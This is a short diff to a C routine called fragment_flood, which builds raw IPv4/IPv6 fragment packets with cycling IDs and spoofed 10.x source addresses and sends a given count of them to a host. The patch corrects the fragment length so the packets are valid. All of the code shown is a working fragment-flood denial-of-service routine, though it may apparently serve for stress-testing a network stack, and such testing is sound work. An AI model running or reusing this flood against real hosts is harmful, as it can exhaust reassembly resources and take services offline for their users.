@@ -221,6 +221,8 @@ static int fragment_flood(const char *host, uint32_t count) {
   int s = socket(a.ss_family, SOCK_RAW, IPPROTO_RAW);  // with a header of our own (raw(7), ipv6(7))
   if (s < 0) fail("socket");
   int six = a.ss_family == AF_INET6;
+  // 400 bytes of data: of one that is not the last they come in eights.
+  size_t length = six ? 448 : 420;
   if (six) {
     uint8_t header[48] = {0x60, [4] = (sizeof packet - 40) >> 8, (sizeof packet - 40) & 0xff, 44, 64, 0x20, 0x01, 0x0d, 0xb8};
     memcpy(packet, header, sizeof header);
@@ -234,7 +236,7 @@ static int fragment_flood(const char *host, uint32_t count) {
     uint32_t id = htonl(i), source = htonl(10u << 24 | i / 50);
     memcpy(packet + (six ? 44 : 4), six ? (uint8_t *)&id : (uint8_t *)&id + 2, six ? 4 : 2);
     memcpy(packet + (six ? 20 : 12), &source, 4);
-    if (sendto(s, packet, sizeof packet, 0, (struct sockaddr *)&a, size) < 0 && errno != ENOBUFS) fail("sendto");
+    if (sendto(s, packet, length, 0, (struct sockaddr *)&a, size) < 0 && errno != ENOBUFS) fail("sendto");
   }
   printf("%u\n", count);
   return 0;
